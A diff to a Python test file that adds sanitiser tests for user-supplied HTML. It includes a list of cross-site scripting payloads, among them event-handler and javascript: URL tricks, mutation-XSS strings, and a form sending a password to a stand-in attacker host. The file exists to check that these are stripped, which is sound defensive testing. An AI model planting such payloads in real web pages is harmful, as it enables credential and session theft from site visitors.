@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import re
 from datetime import UTC, datetime, timedelta, timezone
 
 import msgspec
@@ -10,6 +11,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 from msgspec.structs import replace
 
+from hub.core.grammar.markup import _MADE
 from hub.core.languages import base_language
 from hub.core.model import Counts, Media, Rating, Signal
 from hub.core.normalise import LONGEST_TEXT, clean_text, normalise, normalise_author
@@ -160,3 +162,50 @@ def test_normalising_an_author_twice_changes_nothing_more(name: str, handle: str
 def test_an_author_has_names_on_one_line_and_no_at_sign() -> None:
     made = normalise_author(author(handle="@ada ", display_name=" Ada\n Lovelace ", avatar_url="data:x", followers=-1))
     assert made == replace(author(), handle="ada", display_name="Ada Lovelace")
+
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    '<img src=x onerror="alert(1)">',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt&#58;alert(1)">x</a>',
+    '<a href=" \x01javascript:alert(1)">x</a>',
+    '<a href="java\nscript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+    '<a href="vbscript:x">x</a>',
+    '<p style="background:url(javascript:x)" onclick="x()">x</p>',
+    "<svg><script>alert(1)</script></svg>",
+    "<svg/onload=alert(1)>",
+    '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<form action="https://evil.example"><input name="password"><button>go</button></form>',
+    '<iframe src="https://evil.example" srcdoc="<script>x</script>"></iframe>',
+    '<object data="x"></object><embed src="x"><base href="https://evil.example/"><meta http-equiv="refresh" content="0">',
+    "<style>@import 'https://evil.example/x.css';</style>",
+    '<video><source onerror="alert(1)"></video><details open ontoggle="alert(1)">',
+    "<!--><script>alert(1)</script>-->",
+    "<title><script>alert(1)</script>",
+    '<p id="app" class="modal" name="x">x</p>',
+]
+
+
+@pytest.mark.parametrize("html", HOSTILE)
+def test_html_that_runs_or_loads_does_not_reach_a_signal(html: str) -> None:
+    made = normalise(signal("x", html=f"<p>before</p>{html}")).html or ""
+    shown = re.findall(r"<[^>]*>", made)
+    assert made.startswith("<p>before</p>")
+    assert not [tag for tag in shown if not re.fullmatch(r'</?(p|b|a)( rel="nofollow noopener")?>', tag)]
+
+
+def test_html_keeps_what_a_reader_needs() -> None:
+    html = "<p>a<br><strong>b</strong> <em>c</em></p><ul><li>d</li></ul><ol><li>e</li></ol><blockquote>f</blockquote>"
+    assert normalise(signal("x", html=html)).html == html
+    linked = normalise(signal("x", html='<a href="https://x.example/?a=1&amp;b=2" title="t">x</a>')).html
+    assert linked == '<a href="https://x.example/?a=1&amp;b=2" title="t" rel="nofollow noopener">x</a>'
+
+
+@given(st.text(alphabet="<>/\"'= abpscriptonlvg:&;!-", max_size=200))
+def test_making_html_safe_twice_changes_nothing(html: str) -> None:
+    once = normalise(signal("x", html=html))
+    _MADE.clear()
+    assert normalise(once).html == once.html
